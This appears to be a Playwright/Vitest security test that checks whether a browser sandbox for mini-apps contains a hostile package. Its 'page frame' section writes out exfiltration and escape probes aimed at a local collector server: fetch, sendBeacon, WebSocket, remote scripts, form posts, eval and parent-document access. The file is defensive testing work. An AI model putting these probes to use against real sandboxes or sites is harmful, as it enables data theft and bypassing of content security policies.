/**
 * A hostile mini-program in a real browser: whatever it tries, nothing reaches a server that listens for it, nothing is
 * stored, and nothing that the lock removed can be reached.
 */
import type { Server } from "node:http";
import type { Browser, Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser } from "../browser.ts";
import { openApp } from "../host/opened.ts";
import type { OpenedApp } from "../host/opened.ts";
import { listen, originOf, readRuntime, startSite, stop } from "../host/site.ts";
import type { TestSite } from "../host/site.ts";
import { attempts, hostileScript } from "./attempts.ts";
import { hostilePackage } from "./hostile.ts";
import { moreAttempts } from "./more-attempts.ts";

let browser: Browser;
let site: TestSite;
let collector: Server;
let opened: OpenedApp;
/** Requests that reached the collector. */
const arrived: string[] = [];
const results = new Map<string, string>();
const all = [...attempts, ...moreAttempts];

beforeAll(async () => {
  browser = await launchBrowser();
  collector = await listen((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("1");
  });
  collector.on("upgrade", (request, socket) => {
    arrived.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  site = await startSite(await readRuntime());
  const hostile = await hostilePackage(site.hostOrigin, originOf(collector), hostileScript);
  site.add("hostile", hostile);
  site.add("other", hostile);
  opened = await openApp(browser, site, "hostile", hostile);
  await opened.page.waitForFunction(
    "events.some(([name, log]) => name === 'log' && log.values[0] === 'done')",
    undefined,
    {
      timeout: 90_000,
    },
  );
  for (const [kind, name, result] of await opened.logged()) {
    if (kind === "attempt") results.set(name as string, result as string);
  }
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  if (collector) await stop(collector);
});

describe("user code in the Worker", () => {
  test("there are more than fifty attempts, and all were made", () => {
    expect(all.length).toBeGreaterThan(50);
    expect([...results.keys()].sort()).toEqual(all.map(({ name }) => name).sort());
  });

  test.each(all.map(({ name }) => name))("%s", (name) => {
    expect(results.get(name)).toMatch(/^failed: /);
    expect(results.get(name)).not.toMatch(/^failed: FOUND/);
  });

  test("the first line of a chunk runs behind the lock", async () => {
    const top = (await opened.logged()).find(([kind]) => kind === "top");
    expect(top).toEqual(["top", "undefinedundefinedundefined"]);
  });
});

describe("after all attempts", () => {
  test("no request reached the collector", () => expect(arrived).toEqual([]));

  test("no request to the app's origin had a query or was for another app", () => {
    const answered = site.asked.filter((path) => !/[?]/.test(path));
    for (const path of answered) expect(path).toMatch(/^\/a\/(hostile|other)\//);
    expect(site.asked.filter((path) => path.startsWith("/a/other/"))).toEqual([]);
  });

  test("nothing is stored on the app's origin", async () => {
    const frame = pageFrame();
    const stored = await frame.evaluate(`(async () => {
      const entries = [];
      // Only with secure contexts, which in WebKit 127.0.0.1 is not.
      const folder = await navigator.storage?.getDirectory();
      for await (const name of folder?.keys() ?? []) entries.push(name);
      return [(await indexedDB.databases()).length, (await caches.keys()).length, localStorage.length,
        sessionStorage.length, document.cookie, entries.length];
    })()`);
    expect(stored).toEqual([0, 0, 0, 0, "", 0]);
  });

  test("the app still runs", async () => {
    const problems = await opened.events("problem");
    // The stylesheet's own import is refused, and so is a Worker with a script that is not the app's.
    const expected = /the sheet "_miniapp\/style\/app\.css" could not be loaded|there is no module/;
    expect(
      problems.filter(([, { message }]: readonly [string, { message: string }]) => !expected.test(message)),
    ).toEqual([]);
    expect(opened.page.frames().filter((frame) => frame.url().endsWith("/page.html")).length).toBeGreaterThan(0);
  });
});

function pageFrame(): Frame {
  const frame = opened.page.frames().find((one) => one.url().endsWith("/page.html"));
  if (!frame) throw new Error("no page frame");
  return frame;
}

/** Even code that runs in a frame could not send anything. */
describe("a page frame", () => {
  const to = (): string => JSON.stringify(originOf(collector));
  const base = (): string => `${site.appOrigin}/a/hostile/`;
  const tries: readonly (readonly [string, () => string])[] = [
    ["fetch", () => `fetch(${to()})`],
    ["fetch of its own origin", () => `fetch(${JSON.stringify(base())} + "p/_miniapp/app.json")`],
    [
      "XMLHttpRequest",
      () =>
        `new Promise((g, f) => { const x = new XMLHttpRequest(); x.onload = g; x.onerror = () => f(new Error("no")); x.open("GET", ${to()}); x.send(); })`,
    ],
    // Browsers differ in what it returns when the policy forbids it.
    [
      "sendBeacon",
      () =>
        `new Promise((g, f) => { addEventListener("securitypolicyviolation", () => f(new Error("no")), { once: true }); navigator.sendBeacon(${to()}, "x"); setTimeout(g, 20_000); })`,
    ],
    [
      "WebSocket",
      () =>
        `new Promise((g, f) => { const s = new WebSocket(${to()}.replace("http", "ws")); s.onopen = g; s.onerror = () => f(new Error("no")); })`,
    ],
    [
      "EventSource",
      () =>
        `new Promise((g, f) => { const s = new EventSource(${to()}); s.onopen = g; s.onerror = () => f(new Error("no")); })`,
    ],
    // With a delay, because code of the test's own evaluate call may compile.
    [
      "eval",
      () =>
        `new Promise((g, f) => setTimeout(() => { try { g((0, eval)("1")); } catch (error) { f(new Error("no")); } }, 10))`,
    ],
    [
      "inline script",
      () =>
        `new Promise((g, f) => { const s = document.createElement("script"); s.textContent = "globalThis.hit = 1"; document.body.append(s); globalThis.hit ? g() : f(new Error("no")); })`,
    ],
    ...["data/evil.js", "_miniapp/logic.js", "data/evil.svg"].map((path): readonly [string, () => string] => [
      `script of the package: ${path}`,
      () => element("script", "src", `${base()}p/${path}`),
    ]),
    ["remote script", () => element("script", "src", `${originOf(collector)}/x.js`)],
    ["script in a data URL", () => element("script", "src", "data:text/javascript,globalThis.hit=1")],
    ["script with a query", () => element("script", "src", `${base()}page.js?secret`)],
    ["module of a blob", () => `import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))`],
    [
      "remote sheet",
      () =>
        `new Promise((g, f) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = g; l.onerror = () => f(new Error("no")); l.href = ${to()} + "/x.css"; document.head.append(l); })`,
    ],
    ["remote frame", () => blockedFrame(`${originOf(collector)}/frame`)],
    [
      "Worker",
      () =>
        `new Promise((g, f) => { const w = new Worker(${JSON.stringify(base())} + "p/_miniapp/logic.js"); w.onmessage = g; w.onerror = () => f(new Error("no")); })`,
    ],
    ["insecure picture", () => element("img", "src", `${originOf(collector)}/pixel.png`)],
    [
      "prefetch",
      () =>
        // Without support it raises no event.
        `new Promise((g, f) => { const l = document.createElement("link"); l.rel = "prefetch"; if (!l.relList.supports("prefetch")) f(new Error("no")); l.href = ${to()} + "/p"; l.onload = g; l.onerror = () => f(new Error("no")); document.head.append(l); })`,
    ],
    [
      "form",
      () =>
        `(() => { const d = document.createElement("form"); d.action = ${to()}; d.target = "_self"; document.body.append(d); d.submit(); return Promise.reject(new Error("refused by the policy")); })()`,
    ],
    ["parent's document", () => `Promise.resolve(parent.document.title)`],
    [
      "base element",
      () =>
        `(() => { const b = document.createElement("base"); b.href = ${to()}; document.head.append(b); const bad = document.baseURI.startsWith(${to()}); b.remove(); return bad ? Promise.resolve() : Promise.reject(new Error("no")); })()`,
    ],
  ];

  function element(tag: string, attribute: string, url: string): string {
    return `new Promise((g, f) => { const e = document.createElement("${tag}"); e.onload = g; e.onerror = () => f(new Error("no")); e.${attribute} = ${JSON.stringify(url)}; document.body.append(e); })`;
  }

  function blockedFrame(url: string): string {
    return `new Promise((g, f) => { addEventListener("securitypolicyviolation", () => f(new Error("no")), { once: true }); const e = document.createElement("iframe"); e.src = ${JSON.stringify(url)}; document.body.append(e); setTimeout(g, 20_000); })`;
  }

  test.each(tries)("%s", async (_name, code) => {
    const frame = pageFrame();
    const result = await frame.evaluate(
      `Promise.resolve().then(() => ${code()}).then(() => "SUCCEEDED", (error) => "failed: " + error.message)`,
    );
    expect(result).toMatch(/^failed: /);
  });

  test("no request reached the collector from the frame", async () => {
    await opened.page.waitForTimeout(300);
    expect(arrived).toEqual([]);
  });
});

describe("documents of the app's origin", () => {
  test.each(["p/data/evil.html", "p/data/evil.svg", "p/_miniapp/logic.js"])(
    "%s runs nothing if opened",
    async (path) => {
      const page = await browser.newPage();
      await page.goto(`${site.appOrigin}/a/hostile/${path}`).catch(() => undefined);
      await page.waitForTimeout(100);
      await page.close();
      expect(arrived).toEqual([]);
    },
  );

  test("only the host page may embed a frame", async () => {
    const page = await browser.newPage();
    const stranger = await listen((_request, response) =>
      response
        .writeHead(200, { "Content-Type": "text/html" })
        .end(`<iframe onload="loaded = true" src="${site.appOrigin}/a/hostile/page.html"></iframe>`),
    );
    const before = site.asked.length;
    await page.goto(originOf(stranger));
    // A refused frame has a `load` event, too; it must not load the page's script.
    await page.waitForFunction("globalThis.loaded");
    expect(site.asked.slice(before)).toEqual(["/a/hostile/page.html"]);
    await page.close();
    await stop(stranger);
  });
});
